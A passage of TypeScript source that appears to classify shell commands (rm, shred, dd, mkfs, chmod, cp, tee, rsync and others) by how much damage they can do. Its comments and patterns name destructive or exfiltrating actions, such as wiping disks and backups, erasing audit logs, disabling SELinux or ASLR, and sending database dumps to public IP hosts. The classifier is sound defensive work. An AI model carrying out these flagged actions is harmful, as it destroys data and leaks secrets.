  const everyBackupName = filters.every((x) => /^-i?name \*\.(?:dump|dmp|bak|bkp|backup|sql|sql\.gz|gz|tar|tgz|tar\.gz|zst|xz|zip|7z|snap|archive|rdb|bson)$/i.test(x.replace(/['"]/g, '')));
  if ((filters.length === 0 || everyBackupName) && BACKUP_DIR.test(start)) return [f('forbidden', `deletes every backup under ${start} (${how})`)];
  return [f('dangerous', `bulk-deletes every matching file under ${start} (${how})`, true)];
};

const shred: Handler = (cmd) => {
  const paths = positionals(cmd.args, ['-n', '-s', '--iterations', '--size']);
  const recursive = hasFlag(cmd.args, 'rR', '--recursive');
  const out: Finding[] = [];
  for (const p of paths) {
    const k = pathKind(p);
    if (k === 'device' || k === 'root' || k === 'auditlog') out.push(f('forbidden', `irreversibly wipes ${describe(k, p)}`));
    // (cls-interp21) What rm of the same paths would be forbidden for (every backup, a database's files) stays forbidden.
    // (`wipe` is also the English verb of a plan's step, where the data directory of a replica is wiped to re-seed it: only
    // shred and srm get the lift.)
    else if ((cmd.name !== 'wipe' || cmd.args.some((x) => /^-[a-z]+$/i.test(x))) && deletionFinding([p], recursive, true, snippet(cmd.text, 50), cmd.sudo).some((x) => x.level === 'forbidden')) out.push(f('forbidden', `irreversibly wipes ${p}: ${deletionFinding([p], recursive, true, snippet(cmd.text, 50), cmd.sudo).find((x) => x.level === 'forbidden')?.reason ?? ''}`));
    // A temp or build file overwritten (shred -u /tmp/test-key.pem) loses nothing kept.
    else if (k === 'tmp' || k === 'regenerable') out.push(f('reversible', `overwrites a temporary or generated file (${p})`));
    else out.push(f('dangerous', `irreversibly overwrites ${p} so it can never be recovered (${snippet(cmd.text, 40)})`));
  }
  return out.length ? out : [f('dangerous', `irreversibly wipes files (${cmd.text})`)];
};

const dd: Handler = (cmd) => {
  const of = cmd.args.find((x) => x.startsWith('of='))?.slice(3);
  if (!of) return [f('safe', `reads data with dd (${snippet(cmd.text, 40)})`)];
  const k = pathKind(of);
  // (cls-interp21) Written to /dev/null (a read speed test, dd if=/dev/sda of=/dev/null): only reads.
  if (k === 'null') return [f('safe', `reads data with dd and discards it (${snippet(cmd.text, 40)})`)];
  if (k === 'device') return [f('forbidden', `overwrites the raw disk ${of} (${snippet(cmd.text, 50)})`)];
  if (k === 'critical' || k === 'system' || k === 'dbfile') return [f('forbidden', `overwrites ${of} with dd`)];
  // (lead15) An image or scratch file made in the project or a temp dir (dd if=/dev/zero of=./disk.img): a new local file.
  if ((k === 'tmp' || k === 'cwd' || (k === 'normal' && !/^[/~$]/.test(of))) && /\.(?:img|iso|raw|bin|qcow2|vhdx?|vmdk|swap|dat)$/i.test(of)) return [f('reversible', `writes a local image file ${of} with dd (${snippet(cmd.text, 50)})`)];
  return [f('destructive', `overwrites ${of} with dd`, true)];
};

const mkfs: Handler = (cmd) => {
  // mkfs / wipefs on an image file (./disk.img) touches no disk.
  const targets = positionals(cmd.args, ['-L', '-t', '-b', '-c', '-n', '-O', '-E', '-T']).filter((t) => !/^\d+$/.test(t));
  if (targets.length && targets.every((t) => pathKind(t) !== 'device' && !/^\/dev\//.test(t) && /\.(?:img|raw|iso|qcow2|vhd|vmdk|bin|disk)$|^\.\/|^\/tmp\//.test(t))) return [f('reversible', `formats an image file, not a disk (${snippet(cmd.text, 50)})`)];
  if (cmd.args.includes('--no-act') || cmd.args.includes('-n') && cmd.name === 'wipefs') return [f('safe', `previews what would be erased (${snippet(cmd.text, 50)})`)];
  // (cls-shell19) wipefs told neither --all nor an --offset only lists the signatures it finds (as `wipefs -n` does).
  if (cmd.name === 'wipefs' && !cmd.args.some((x) => /^(?:--all|--offset(?:=.*)?|--force|-[a-zA-Z]*[ao](?:\S*)?)$/.test(x))) return [f('safe', `lists the signatures on a device; nothing is erased (${snippet(cmd.text, 50)})`)];
  return [f('forbidden', `formats or repartitions a disk, erasing it (${snippet(cmd.text, 50)})`)];
};

const truncate: Handler = (cmd) => {
  const size = optValue(cmd.args, '-s', '--size');
  const paths = positionals(cmd.args, ['-s', '--size', '-r', '--reference']);
  const shrinking = size === undefined || /^(0|-|<|\/)/.test(size);
  const out: Finding[] = [];
  for (const p of paths) {
    const k = pathKind(p);
    if (!shrinking) out.push(f('reversible', `changes the size of ${p}`));
    // (cls-interp21) A database server's own configuration kept beside its data (pg_hba.conf, postgresql.conf, my.cnf): the
    // server's access and settings emptied, not its data.
    else if (k === 'dbfile' && /\.(?:conf|cnf|cfg|ini)$/i.test(p)) out.push(f('dangerous', `empties a database server's configuration file (${p})`));
    else if (k === 'dbfile') out.push(f('forbidden', `zeroes a live database file, destroying the database (${p})`));
    else if (k === 'auditlog') out.push(f('forbidden', `erases a security audit log (${p})`));
    else if (k === 'device') out.push(f('forbidden', `truncates a disk device (${p})`));
    else if (k === 'log') out.push(f('dangerous', `erases a system log (${p})`));
    else if (k === 'critical' || k === 'system') out.push(f('dangerous', `empties a system file (${p})`));
    // (cls-code14) The project's own log or output file (logs/dev.log, npm-debug.log) emptied: regenerated as the app runs.
    // (Only a log its name places in development: app.log in the working directory may be a served app's, as wrappers.test labels it.)
    else if (devLogOfProject(p)) out.push(f('reversible', `empties the project's own development log file (${p})`));
    else if (k === 'tmp' || k === 'regenerable') out.push(f('reversible', `empties a temporary or generated file (${p})`));
    else out.push(f('destructive', `empties ${p}`, true));
  }
  return out;
};

/** (cls-interp21) Files of a project that hold configuration, data, logs, keys or dumps rather than source or documents. */
const PROJECT_DATA_EXT = /\.(?:ya?ml|json|jsonc|toml|ini|conf|cfg|env|properties|xml|plist|db|sqlite3?|mdb|csv|tsv|jsonl|ndjson|parquet|avro|log|out|sql|dump|bak|key|pem|p12|pfx|crt|lock|pid|sock|rdb|aof)$/i;
/** (cls-interp21) Scratch leftovers by their extension (editor swaps, merge leftovers, temp and backup copies of a file). */
const SCRATCH_GLOB = /^(?:\.\/)?(?:[\w.-]+\/)*\*\.(?:tmp|temp|orig|rej|swp|swo|bak|pyc|pyo)$/i;

/** (lead, session 23) Folders a build or a preview writes and can write again. */
const REGENERABLE_DIR_L21 = /(?:^|\/)(?:[\w.]*[-_.])?(?:dist|build|out|public|preview|previews|site|_site|www|coverage|\.cache|cache|tmp|temp|target|bin|obj|\.next|\.nuxt|storybook-static|artifacts)(?:[-_.][\w.-]*)?$/;

/** (cls-code14) The project's own log or output file (logs/dev.log, npm-debug.log): regenerated as the app runs. */
function devLogOfProject(p: string): boolean {
  return inProject(p) && /\.(?:log|out|err|tmp|trace)$/i.test(p) && /(?:^|[/_.-])(?:dev|development|test|tests|debug|local|npm-debug|yarn-error|build|ci)(?:[/_.-]|$)/i.test(p);
}

const nullCmd: Handler = (cmd) => redirectFindings(cmd, true);

const chmod: Handler = (cmd) => {
  const a = cmd.args;
  const recursive = hasFlag(a, 'R', '--recursive');
  const pos = positionals(a);
  const mode = pos[0] ?? '';
  const targets = pos.slice(1);
  // (cls-interp21: `u+w`, `ug+w` give write to the owner or group only; a bare `+w` is filtered by the umask. Only o, a or
  // no class letter with = count.)
  const worldWritable = /^0?[0-7]?[0-7][0-7][2367]$/.test(mode) || /(?:^|,)[ug]*[oa][ugoa]*[+=][rwxXst]*w|(?:^|,)\+[rxXst]*w(?![\s\S]*,)(?<=^\+[rwxXst]*)|\bo=rwx|777/.test(mode) && !/^[ug]+\+/.test(mode);
  const setuid = /^[4-7][0-7]{3}$/.test(mode) || /[ugo]*\+s/.test(mode);
  const sys = targets.some((t) => ['root', 'home', 'system', 'critical', 'cwd'].includes(pathKind(t)));
  // (cls-interp21: a glob naming keys, id_rsa* from find -exec, is those keys.)
  const secret = targets.some((t) => pathKind(t) === 'secret' || pathKind(t) === 'critical' || (/\*$/.test(t) && (pathKind(t.replace(/\*+$/, '')) === 'secret' || /(?:^|\/)id_(?:rsa|ed25519|ecdsa|dsa)\*$/.test(t))));
  const how = snippet(cmd.text, 50);
  if (worldWritable && targets.some((t) => /\.sock$|^\/var\/run\/|^\/run\//.test(t))) return [f('dangerous', `makes a privileged socket world-writable (${how})`)];
  if (worldWritable && recursive && targets.some((t) => ['root', 'home', 'system', 'critical'].includes(pathKind(t)))) return [f('forbidden', `makes the whole filesystem, home or a system tree world-writable; security cannot be restored reliably (${how})`)];
  if (worldWritable && secret) return [f('dangerous', `makes a credentials or system security file world-writable (${how})`)];
  // Every local user (and any process) can then read the password hashes or private key: an OS protection weakened.
  if (secret && (/^0?[0-7]?[0-7][0-7][4-7]$/.test(mode) || /\b[oa]\+r|^\+r$/.test(mode))) return [f('dangerous', `makes a credentials or system security file readable by every user (${how})`)];
  if (worldWritable && (recursive || sys)) return [f('dangerous', `makes files world-writable${recursive ? ' recursively' : ''} (${how})`)];
  if (setuid) return [f('dangerous', `sets setuid/setgid bits (${how})`)];
  if (recursive && sys) return [f('dangerous', `changes permissions recursively on system paths (${how})`)];
  if (worldWritable || (secret && /[0-7]*[4-7][0-7]$|o\+r|a\+r/.test(mode) && !/^0?[0-7]00$/.test(mode))) return [f('destructive', `loosens file permissions (${how})`, true)];
  if (/^\+x$|^[ugoa]*\+x$|^[ugoa]*\+r$/.test(mode)) return [f('reversible', `adds permissions (${how})`)];
  // (cls-interp21) Access taken away from group and others (600, 700, go-rwx): a file made private, nothing opened.
  // (A key or credentials file keeps the project's reading, shell.test: `chmod 600 ~/.ssh/config` is confirm.)
  const ownFiles = targets.length > 0 && targets.every((t) => ['normal', 'tmp', 'regenerable'].includes(pathKind(t)) && !/^\/(?:etc|usr|bin|sbin|lib|boot|var|opt|srv)\/|(?:^|\/)\.(?:ssh|gnupg|aws|kube|docker|config)(?:\/|$)/.test(t));
  if (ownFiles && /^0?[4-7]00$|^(?:go|og|g|o)-[rwx]+$/.test(mode) && !recursive) return [f('reversible', `makes files private to their owner (${how})`)];
  // The owner (or group) given write on the project's own files (chmod -R u+w ./vendor).
  if (/^[ug]+\+[rwxX]+$/.test(mode) && targets.length > 0 && targets.every(inProject)) return [f('reversible', `gives the owner write access to the project's own files (${how})`)];
  if (/^0?(644|664|755|775)$/.test(mode) && !recursive && !secret && !sys) return [f('reversible', `sets ordinary file permissions (${how})`)];
  // Ordinary modes on the project's own files (./scripts, src/), recursively or not.
  if (/^0?(644|664|755|775)$|^[ugoa]*\+[rx]+$/.test(mode) && targets.length > 0 && targets.every(inProject)) return [f('reversible', `sets ordinary permissions on the project's own files (${how})`)];
  if (recursive) return [f('destructive', `changes permissions recursively (${how})`, true)];
  return [f('destructive', `changes file permissions (${how})`, true)];
};

/** A relative path inside the working tree, or build output / temporary files: the project's own. */
function inProject(t: string): boolean {
  const k = pathKind(t);
  if (k === 'regenerable' || k === 'tmp') return true;
  return k === 'normal' && !/^[/~$\\]|^[a-z]:/i.test(t) && !t.startsWith('..');
}

const chown: Handler = (cmd) => {
  const recursive = hasFlag(cmd.args, 'R', '--recursive');
  const targets = positionals(cmd.args).slice(1);
  const sys = targets.some((t) => ['root', 'home', 'system', 'critical', 'dbfile', 'auditlog', 'log', 'secret'].includes(pathKind(t)));
  if (recursive && targets.some((t) => pathKind(t) === 'root')) return [f('forbidden', `changes the owner of every file on the system; sudo, ssh and services break (${snippet(cmd.text, 50)})`)];
  if (targets.length > 0 && targets.every((t) => inProject(t) || (pathKind(t) === 'regenerable'))) return [f('reversible', `changes ownership of the project's own or generated files (${snippet(cmd.text, 50)})`)];
  if (sys && recursive) return [f('dangerous', `changes ownership recursively on system paths (${snippet(cmd.text, 50)})`)];
  // cls-holes15: a system credentials or security file (/etc/shadow, /etc/sudoers, host keys) handed to an owner other
  // than root: that user can then read or rewrite it, as chmod making it readable does. A user's own keys under a home
  // directory are not meant, nor root restored as owner.
  const owner = positionals(cmd.args)[0] ?? '';
  if (!/^(?:root|0)?(?:[:.](?:root|0|shadow)?)?$/.test(owner) && targets.some((t) => /^\/(?!home\/|Users\/)/.test(t) && ['secret', 'critical'].includes(pathKind(t)))) {
    return [f('dangerous', `hands a credentials or system security file to another owner (${snippet(cmd.text, 50)})`)];
  }
  return [f(recursive ? 'destructive' : 'reversible', `changes file ownership (${snippet(cmd.text, 50)})`)];
};

const mv: Handler = (cmd) => {
  const pos = positionals(cmd.args, ['-t', '--target-directory', '-S', '--suffix']);
  if (pos.length < 2) return [f('reversible', `moves files (${cmd.text})`)];
  const dest = pos[pos.length - 1] as string;
  const srcs = pos.slice(0, -1);
  const dk = pathKind(dest);
  const out: Finding[] = [];
  if (dk === 'null') return deletionFinding(srcs, true, true, snippet(cmd.text, 50), cmd.sudo);
  for (const s of srcs) {
    const k = pathKind(s);
    if (k === 'secret') out.push(f('destructive', `moves a credentials file away; whatever reads it breaks (${s})`));
    if (k === 'critical') out.push(f('dangerous', `moves ${s} away, which access or boot depends on (${snippet(cmd.text, 60)})`));
    else if (k === 'system' || k === 'root' || k === 'home' || k === 'device') out.push(f('dangerous', `moves a system path (${s})`));
    else if (k === 'dbfile' || k === 'auditlog') out.push(f('dangerous', `moves live database or audit files (${s})`));
  }
  if (dk === 'critical' || dk === 'system') out.push(f('dangerous', `replaces a system file (${dest})`));
  if (out.length) return out;
  if (hasFlag(cmd.args, 'f', '--force')) return [f('destructive', `moves files, overwriting any existing destination (${snippet(cmd.text, 50)})`, true)];
  return [f('reversible', `moves or renames files (${snippet(cmd.text, 50)})`)];
};

const cp: Handler = (cmd) => {
  const pos = positionals(cmd.args, ['-t', '--target-directory', '-S', '--suffix']);
  const dest = pos[pos.length - 1] ?? '';
  const dk = pathKind(dest);
  // (cls-interp21) `cp /dev/null FILE` empties FILE, as `truncate -s 0 FILE` does.
  if (pos.length === 2 && pathKind(pos[0] as string) === 'null' && dk !== 'null') return truncate({ ...cmd, name: 'truncate', args: ['-s', '0', dest] }, undefined as never);
  if (pos.length >= 2 && (dk === 'critical' || dk === 'system')) return [f('dangerous', `overwrites a system file (${dest})`)];
  if (pos.length >= 2 && dk === 'device') return [f('forbidden', `writes over a raw disk device (${dest})`)];
  if (pos.length >= 2 && dk === 'secret' && !hasFlag(cmd.args, 'n', '--no-clobber') && !pos.slice(0, -1).every((s) => /\.(example|sample|template|dist|defaults?)$/i.test(s))) return [f('destructive', `overwrites a credentials file (${dest})`)];
  // (lead19) A private key copied is a copy of the secret: into a shared, mounted or network location it has left the
  // person who holds it (LABELS: exporting a private key is dangerous); elsewhere on this machine it is read (destructive).
  if (pos.length >= 2 && pos.slice(0, -1).some((s) => PRIVATE_KEY_FILE.test(s.replace(/\\/g, '/')))) {
    return SHARED_PLACE.test(dest)
      ? [f('dangerous', `copies a private key to a shared or network location (${snippet(cmd.text, 60)})`)]
      : [f('destructive', `makes another copy of a private key (${snippet(cmd.text, 60)})`)];
  }
  if (hasFlag(cmd.args, 'n', '--no-clobber', '--update')) return [f('reversible', `copies files without overwriting (${snippet(cmd.text, 50)})`)];
  return [f('reversible', `copies files (${snippet(cmd.text, 50)})`)];
};

/** (lead19) Places other people reach: mounted volumes and network shares, shared or team folders, sync folders. */
const SHARED_PLACE = /^(?:\/Volumes\/|\/mnt\/|\/media\/|\/net\/|\/\/|\\\\|smb:|nfs:)|(?:^|[\\/])(?:shared?|public|team[\w -]*|drop ?box|onedrive[^/\\]*|google ?drive|icloud drive|common|transfer|exchange)(?:[\\/]|$)/i;

const ln: Handler = (cmd) => {
  const pos = positionals(cmd.args, ['-t', '--target-directory', '-S', '--suffix']);
  const target = pos[0] ?? '';
  const link = pos[1] ?? '';
  const force = hasFlag(cmd.args, 'f', '--force');
  const lk = pathKind(link);
  if (pathKind(target) === 'null' && link) {
    if (lk === 'auditlog') return [f('forbidden', `silently discards security audit logging (${link} → /dev/null)`)];
    if (lk === 'log') return [f('dangerous', `silently discards system logging (${link} → /dev/null)`)];
    // (cls-interp21) A system configuration file or unit pointed at nothing (/etc/nginx/sites-enabled/default, a systemd
    // unit): what the machine runs is changed, as overwriting the file would be.
    if (lk === 'critical' || lk === 'system') return [f('dangerous', `replaces the system file ${link} with a link to /dev/null`)];
    return [f('destructive', `replaces ${link} with a link to /dev/null`, true)];
  }
  if (force && (lk === 'critical' || lk === 'system' || lk === 'auditlog')) return [f('dangerous', `replaces a system file with a link (${link})`)];
  // (cls-interp22) Inside the project: a relative link pointed at another of the project's files named for
  // development, a test or an example, not production (ln -sf ../config/dev.env .env, ln -sf .env.development .env) switches a
  // local setting, undone by linking back.
  if (force && link && pos.length === 2 && /^(?:\.{1,2}\/|[\w.-])/.test(target) && /^(?:\.\/)?[\w.-]+(?:\/[\w.-]+)*$/.test(link) && !/(?:^|[^a-z])(?:prod|production|live)(?:[^a-z]|$)/i.test(target) && /(?:^|[^a-z])(?:dev|local|development|test|testing|example|sample|defaults?)(?:[^a-z]|$)/i.test(target) && !/\.git\//.test(link) && !/^(?:\.\.\/){3,}/.test(target) && lk !== 'critical' && lk !== 'system') return [f('reversible', `points a project file at another of its files (${snippet(cmd.text, 50)})`)];
  if (force && link) return [f('destructive', `replaces whatever ${link} points to (${snippet(cmd.text, 50)})`, true)];
  return [f('reversible', `creates a link (${snippet(cmd.text, 50)})`)];
};

function inPlaceEdit(cmd: Cmd, script: string, files: readonly string[]): Finding[] {
  const out: Finding[] = [];
  const deletesLines = /(^|[;/}])\s*\d*,?\$?\s*d\s*$|\/d\b|\/d;|^\/.*\/d$/.test(script);
  for (const p of files) {
    // cls-edits17: a system file's copy kept in the repository (images/bastion/sshd_config, roles/base/files/sudoers) is
    // judged by what the substitution writes (readers/writes.ts), as an Edit of it is (cls-plan15), not as the live file.
    const repoCopy = /[\\/]/.test(p) && !/^(?:[\\/~$%]|[a-z]:)/i.test(p) && !/^\.{0,2}\/?etc\//.test(p);
    const k = repoCopy && pathKind(p) === 'critical' ? 'repo' : pathKind(p);
    if (k === 'critical') out.push(f('dangerous', `edits a security-critical system file in place${cmd.sudo ? ' as root' : ''} (${p})`));
    else if (k === 'system') out.push({ ...f('destructive', `edits a system configuration file in place${cmd.sudo ? ' as root' : ''} (${p})`, true), local: true });
    // (cls-edits18) A development environment file (.env.test) whose substitution names no credential is a dev setting, as
    // the same line changed by an Edit is (readers/files.ts).
    else if (k === 'secret' && !deletesLines && detectEnv(p).env === 'dev' && !/secret|token|key|pass|pwd|credential|private|auth|dsn|@/i.test(script.replace(/\b(?:SKIP|DISABLE|BYPASS|NO)_AUTH\w*|\bAUTH_(?:DISABLED|ENABLED|BYPASS)\b/gi, ''))) out.push(f('reversible', `edits a development environment file (${p})`));
    else if (k === 'secret') out.push(f('destructive', `${deletesLines ? 'deletes lines from' : 'edits'} a secrets file in place (${p})`));
    else if (k === 'auditlog') out.push(f('forbidden', `edits a security audit log (${p})`));
    else if (k === 'log') out.push(f('dangerous', `rewrites a system log (${p})`));
    else out.push(f('reversible', `edits ${p} in place`));
    // tls12b: a substitution that writes a lower TLS version, a weak cipher or HSTS off (`s/TLSv1.2/TLSv1/`).
    const sub = /^s([^\w\s\\])((?:\\.|(?!\1).)*)\1((?:\\.|(?!\1).)*)\1\w*$/s.exec(script);
    const tls = sub && !notDeployed(p) ? transportLowered((sub[2] as string).replace(/\\(.)/g, '$1'), (sub[3] as string).replace(/\\(.)/g, '$1'), (sub[3] as string).replace(/\\(.)/g, '$1')) : undefined;
    if (tls) {
      // A local command has no target of its own: the file's environment decides (dev or local one step lower, as in an edit).
      out.push(f(detectEnv(p).env === 'dev' ? 'destructive' : 'dangerous', `lowers transport security in ${p} (${tls})`));
    }
  }
  return out.length ? out : [f('reversible', `edits files in place (${snippet(cmd.text, 40)})`)];
}

const sed: Handler = (cmd) => {
  const a = cmd.args;
  const inPlace = a.some((x) => x === '-i' || x.startsWith('-i') || x === '--in-place' || x.startsWith('--in-place=') || (/^-[a-zA-Z]+$/.test(x) && x.includes('i')));
  const redir = redirectFindings(cmd, false);
  if (!inPlace) return redir.length ? redir : [f('safe', `prints transformed text (${snippet(cmd.text, 40)})`)];
  const e = optValue(a, '-e', '--expression');
  const pos = positionals(a, ['-e', '--expression', '-f']);
  const script = e ?? pos[0] ?? '';
  const files = e ? pos : pos.slice(1);
  return inPlaceEdit(cmd, script, files.filter((x) => !/^(?:bak|\.bak|''|"")$/.test(x)));
};

const perl: Handler = (cmd, ctx) => {
  // -M and -I load a module or a path (-MFile::Path=rmtree): only a flag cluster with i edits in place.
  if (!cmd.args.some((x) => /^-(?![MmI])[a-zA-Z]*i/.test(x))) {
    // perl -e / -ne '…': the code is read call by call (unlink glob "…", system "…").
    const at = cmd.args.findIndex((x) => /^-[a-zA-Z]*[eE]$/.test(x));
    // (cls-interp20: with no -e, a script on standard input — perl <<'PL', perl - <<'PL' — is the code.)
    const given = at >= 0 ? cmd.args[at + 1] : undefined;
    const code = given !== undefined ? withArgv('perl', given, cmd.args.slice(at + 2)) : cmd.stdin !== undefined && positionals(cmd.args).every((x) => x === '-') ? cmd.stdin : undefined;
    const read = code ? ctx.code(code).filter((x) => x.level !== 'safe' && x.level !== 'reversible') : [];
    // Perl runs a backticked string as a shell command (the code reader cannot tell it from a JavaScript template).
    if (code) for (const m of code.matchAll(/`([^`\n]{1,2000})`/g)) read.push(...ctx.inner(m[1] as string).filter((x) => x.level !== 'safe' && x.level !== 'reversible'));
    return read.length ? read : [f('reversible', `runs a Perl script (${snippet(cmd.text, 40)})`)];
  }
  const e = optValue(cmd.args, '-e', '-pe', '-pie', '-pi') ?? '';
  return inPlaceEdit(cmd, e, positionals(cmd.args, ['-e', '-pe', '-pi', '-pie']).filter((x) => x !== e));
};

/** (cls-shell19) Kernel files whose 0 turns a protection off (SELinux enforcing, ASLR, pointer and dmesg restriction, ptrace scope). */
const KERNEL_GUARD_FILE = /^\/(?:sys\/fs\/selinux\/enforce|proc\/sys\/kernel\/(?:randomize_va_space|kptr_restrict|dmesg_restrict|yama\/ptrace_scope|unprivileged_bpf_disabled)|proc\/sys\/fs\/protected_(?:symlinks|hardlinks|fifos|regular))$/;

const tee: Handler = (cmd) => {
  const append = hasFlag(cmd.args, 'a', '--append');
  const out: Finding[] = [];
  for (const p of positionals(cmd.args)) {
    const k = pathKind(p);
    if (k === 'device') out.push(f('forbidden', `writes over a raw disk device (${p})`));
    // `echo "127.0.0.1 myapp.local" | sudo tee -a /etc/hosts`: a development machine's local name appended (cls-benign17;
    // cls-edits17's any-name-on-loopback variant was dropped at the merge: a real domain sent to 127.0.0.1 blocks it).
    else if ((k === 'critical' || k === 'system') && append && devHostsAppend(cmd, p)) out.push(f('reversible', `adds a local name for a development machine to the hosts file (${p})`));
    else if (k === 'critical' || k === 'system') out.push(f('dangerous', `${append ? 'appends to' : 'overwrites'} a system file${cmd.sudo ? ' as root' : ''} (${p})`));
    else if (k === 'auditlog') out.push(f('forbidden', `writes into a security audit log (${p})`));
    else if (k === 'secret') out.push(f('destructive', `writes into a credentials file (${p})`));
    // (cls-shell19) A kernel security switch written through its file (`echo 0 | sudo tee /sys/fs/selinux/enforce`,
    // /proc/sys/kernel/randomize_va_space): the protection off, as `setenforce 0` or `sysctl -w …=0` reads.
    else if (KERNEL_GUARD_FILE.test(p) && /^\s*0\s*$/.test(cmd.stdin ?? (cmd.pipeIn && (cmd.pipeIn.name === 'echo' || cmd.pipeIn.name === 'printf') ? cmd.pipeIn.args.filter((x) => !x.startsWith('-')).join(' ') : ''))) out.push(f('dangerous', `turns off an operating-system protection (${p})`));
    else out.push(f('reversible', `writes output to ${p}`));
  }
  return out;
};

const rsync: Handler = (cmd) => {
  const a = cmd.args;
  const del = a.some((x) => /^--(delete|del)(-|$)|^--remove-source-files$/.test(x));
  const pos = positionals(a, ['-e', '--rsh', '--exclude', '--include', '--filter', '-f']);
  const dest = pos[pos.length - 1] ?? '';
  const srcs = pos.slice(0, -1);
  const how = snippet(cmd.text, 60);
  // rsync to host:path sends files to another machine (a deploy to a server, a copy to a colleague's box).
  const remote = /^(?:[\w.-]+@)?[\w.-]+:(?!\\)|^rsync:\/\//.test(dest) && !/^[a-z]:/i.test(dest);
  const down = !remote ? prodDownload(srcs) : undefined;
  if (!del && down) return [down(cmd.text)];
  if (!del) return remote ? [leavesMachine(cmd)] : [f('reversible', `copies files with rsync (${how})`)];
  const dk = pathKind(dest.replace(/^[^/]*:/, ''));
  // (cls-interp21: a fresh temp dir made in place, `$(mktemp -d)/`, is empty too.)
  const emptySrc = srcs.some((s) => /(^|\/)(empty|blank|void|nothing|null)[^/]*\/?$/i.test(s) || pathKind(s) === 'null') || (/\$\(\s*mktemp\s+(?:-[a-zA-Z]*d\b|--directory)[^)]*\)\/?\s/.test(cmd.text) && srcs.length === 1);
  if (emptySrc && (CATASTROPHIC.has(dk) || dk === 'system')) return [f('forbidden', `syncs an empty directory over ${describe(dk, dest)} with --delete, wiping it (${how})`)];
  if (emptySrc) {
    // (cls-interp21) An empty source mirrored over a directory deletes every entry of it: read as `rm -rf DIR/*` (a
    // database's files or a backups store is then forbidden, a temp or build dir reversible).
    const local = dest.replace(/^[^/]*:(?!\/\/)/, '').replace(/\/+$/, '');
    const asRm = local ? deletionFinding([`${local}/*`], true, true, how, cmd.sudo) : [];
    const whole = asRm.filter((x) => x.level === 'forbidden' && !x.reason.startsWith('deletes a directory and everything'));
    if (whole.length) return whole.map((x) => ({ ...x, reason: `syncs an empty directory with --delete: ${x.reason}` }));
    if (asRm.length && asRm.every((x) => x.level === 'reversible')) return asRm;
    return [f('dangerous', `syncs an empty directory with --delete: every file in ${dest} is deleted (${how})`, true)];
  }
  // (cls-interp21) Between the project's own folders, build outputs or temp dirs (rsync -a --delete dist/ preview/): a local
  // mirror of regenerable files.
  // (lead, session 23: only when what is mirrored over is itself regenerable — a build output, a preview, a temp dir; a relative
  // data or backups folder mirrored over is what it holds.)
  if (!remote && srcs.length > 0 && [...srcs, dest].every((x) => inProject(x.replace(/\/+$/, '') || '.')) && (['tmp', 'regenerable'].includes(pathKind(dest.replace(/\/+$/, '') || '.')) || REGENERABLE_DIR_L21.test(dest.replace(/\/+$/, '')))) return [f('reversible', `mirrors the project's own folders with --delete (${how})`)];
  if (CATASTROPHIC.has(dk) || dk === 'system') return [f('dangerous', `mirrors with --delete onto ${describe(dk, dest)} (${how})`)];
  return [f('destructive', `mirrors with --delete: files missing from the source are deleted in ${dest} (${how})`, true)];
};

/**
 * (cls-code15) Files pulled from a server its name places in production onto this machine (scp prod-db:/var/backups/x .,
 * rsync -a deploy@prod-web-1:/srv/uploads/ ./): the data leaves the servers, as `docker cp prod-web:/app/uploads .` does.
 */
function prodDownload(srcs: readonly string[]): ((text: string) => Finding) | undefined {
  // Logs, configuration and build output pulled for a look stay the routine copy (as docker cp reads them).
  const src = srcs.find((s) => {
    const m = /^(?:[\w.-]+@)?([\w.-]+):(?!\/\/)(.*)$/.exec(s);
    return m !== null && detectEnv(m[1] as string).env === 'prod' && PROD_DATA_PATH.test(m[2] as string);
  });
  const host = src ? /^(?:[\w.-]+@)?([\w.-]+):/.exec(src)?.[1] : undefined;
  if (!host) return undefined;
  return (text) => ({ level: 'dangerous', env: 'prod', reason: `copies data from a production server (${host}) onto this machine (${snippet(text, 60)})` });
}

const PROD_DATA_PATH = /(?:^|[/_.-])(?:uploads?|exports?|data|db|dumps?|backups?|media|storage|files|attachments|documents|customers?|users?|members|patients|invoices|orders|records|pgdata|mysql|postgres\w*)(?:$|[/_.-])|\.(?:db|sqlite3?|sql|dump|csv|xlsx?|parquet|bak)$/i;

/** Commands whose output is data (an image, an archive, a dump, a stream of blocks) rather than fixed text. */
const DATA_PRODUCERS = new Set(['docker', 'podman', 'nerdctl', 'tar', 'bsdtar', 'cpio', 'zip', 'pg_dump', 'pg_dumpall', 'mysqldump', 'mariadb-dump', 'mongodump', 'sqlite3', 'zfs', 'btrfs', 'dd', 'cat', 'gzip', 'pigz', 'zstd', 'xz', 'bzip2', 'lz4', 'openssl', 'gpg', 'kubectl', 'etcdctl', 'redis-cli', 'pv', 'base64', 'restic', 'borg']);

/** Files copied to another host: settled as at least destructive; into production a deploy. */
function leavesMachine(cmd: Cmd): Finding {
  const unknown = unknownHostData(cmd);
  if (unknown) return { level: 'dangerous', reason: `copies ${unknown} to a machine known only by a public address, outside the company's known hosts (${snippet(cmd.text, 60)})` };
  return { level: 'dangerous', unknown: 'destructive', staging: 'destructive', dev: 'destructive', reason: `copies files to another machine (${snippet(cmd.text, 60)})` };
}

// (cls-holes19) LABELS "data leaving the company": a saved image (its layers keep the secrets baked into it), a database
// dump or a file of customer data carried to a host named only by a public IPv4 address (no name the company gives its own
// machines) is data copied to an unknown host: dangerous. Private, loopback and CGNAT/tailnet addresses and host names keep
// the destructive copy.
const PRIVATE_V4 = /^(?:10\.|127\.|192\.168\.|169\.254\.|172\.(?:1[6-9]|2\d|3[01])\.|100\.(?:6[4-9]|[7-9]\d|1[01]\d|12[0-7])\.|0\.)/;
function publicV4(host: string): boolean {
  return /^\d{1,3}(?:\.\d{1,3}){3}$/.test(host) && !PRIVATE_V4.test(host);
}
const SAVED_DATA = new Set(['pg_dump', 'pg_dumpall', 'mysqldump', 'mariadb-dump', 'mongodump']);
function unknownHostData(cmd: Cmd): string | undefined {
  if (cmd.name === 'ssh') {
    const host = positionals(cmd.args, ['-i', '-p', '-l', '-o', '-F', '-J', '-L', '-R', '-D', '-W', '-b', '-c', '-e', '-m', '-S', '-w', '-E', '-B', '-O', '-Q'])[0]?.replace(/^[^@]*@/, '') ?? '';
    if (!publicV4(host)) return undefined;
    let src = cmd.pipeIn;
    while (src?.pipeIn) src = src.pipeIn;
    if (!src) return undefined;
    if (/^(?:docker|podman|nerdctl)$/.test(src.name) && (src.args[0] === 'save' || (src.args[0] === 'image' && src.args[1] === 'save'))) return 'a saved container image';
    if (SAVED_DATA.has(src.name)) return 'a database dump';
    return undefined;
  }
  if (cmd.name === 'scp' || cmd.name === 'rsync') {
